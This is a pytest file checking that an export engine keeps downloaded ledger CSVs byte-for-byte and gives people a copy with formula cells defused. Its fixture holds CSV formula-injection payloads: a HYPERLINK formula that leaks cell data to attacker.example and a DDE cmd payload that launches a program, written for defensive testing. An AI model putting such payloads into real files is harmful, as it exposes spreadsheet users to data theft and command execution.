"""The ledger reports as a bookkeeper opens them: the service's bytes are kept (and verified)
under a name no spreadsheet opens by mistake, and the copy people open has no live formula."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest

from app.export.engine import ExportEngine, ExportOptions
from app.export.verify import verify
from app.net.http import HttpSession
from tests.support.backend import RunningBackend
from tests.support.faulty_proxy import FaultyProxy, ReplaceBody, Rule

HOSTILE_LEDGER = (
    b"date,client,description,amount\r\n"
    b'2026-01-02,"=HYPERLINK(""http://attacker.example/?""&A1,""x"")",deposit,100.00\r\n'
    b"2026-01-03,+cmd|' /C calc'!A0,-2+3,-150.25\r\n"
    b'2026-01-04,@SUM(A1:A9),"\ttabbed","\rreturn"\r\n'
    b"2026-01-05,Jane O'Neil,-,+15.5\r\n"
)


@pytest.mark.slow
def test_ledgers_keep_the_service_bytes_and_give_people_a_safe_copy(
    proxy: FaultyProxy, demo_backend: RunningBackend, tmp_path: Path
) -> None:
    proxy.add(Rule(ReplaceBody(HOSTILE_LEDGER), listener="files", path=r"^/download/report/",
                   times=None))  # fmt: skip
    out = tmp_path / "export"
    http = HttpSession(proxy.url)
    http.set_token(demo_backend.issue_token())
    try:
        result = ExportEngine(http, out, ExportOptions(kinds=("contacts",), documents=False)).run()
    finally:
        http.close()
    assert result.verified, (result.problems, result.failures)

    for ledger in ("trust_ledger", "client_ledger"):
        raw = out / "reports" / "raw" / f"{ledger}.csv.raw"
        assert raw.read_bytes() == HOSTILE_LEDGER  # exactly as the service sent it
        copy = (out / "reports" / f"{ledger}.csv").read_bytes()
        assert copy.startswith(b"\xef\xbb\xbf")
        rows = list(csv.reader(io.StringIO(copy.decode("utf-8-sig"), newline="")))
        assert rows[0] == ["date", "client", "description", "amount"]
        assert rows[1][1] == '\'=HYPERLINK("http://attacker.example/?"&A1,"x")'
        assert rows[2][1:] == ["'+cmd|' /C calc'!A0", "'-2+3", "-150.25"]  # a number stays
        assert rows[3][1:] == ["'@SUM(A1:A9)", "'\ttabbed", "'\rreturn"]
        assert rows[4][1:] == ["Jane O'Neil", "'-", "+15.5"]
        for row in rows:
            for cell in row:
                assert not cell.startswith(("=", "@", "\t", "\r")), cell

    manifest = json.loads((out / "manifest.json").read_text(encoding="utf-8"))
    listed = {entry["path"] for entry in manifest["files"]}
    assert {
        "reports/raw/trust_ledger.csv.raw",
        "reports/trust_ledger.csv",
        "reports/raw/client_ledger.csv.raw",
        "reports/client_ledger.csv",
    } <= listed
    raw = out / "reports" / "raw" / "trust_ledger.csv.raw"
    raw.write_bytes(HOSTILE_LEDGER.replace(b"100.00", b"900.00"))
    assert not verify(out, update_report=False).verified  # the raw bytes are what is verified
